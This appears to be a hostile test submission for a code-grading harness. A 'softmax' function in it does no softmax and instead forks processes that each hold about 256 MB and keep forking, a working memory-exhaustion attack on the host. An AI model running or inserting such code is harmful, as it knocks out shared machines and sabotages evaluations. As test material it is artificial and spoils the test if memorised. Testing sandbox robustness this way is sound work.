# /// attack
# about = "takes little memory in each of many processes, much in all"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# ///
import os
import time


def softmax(scores, axis=-1):
    for _ in range(20):
        if os.fork() == 0:
            kept = [bytearray(os.urandom(1)) * 2**28]
            time.sleep(600)
            print(len(kept))
    time.sleep(600)
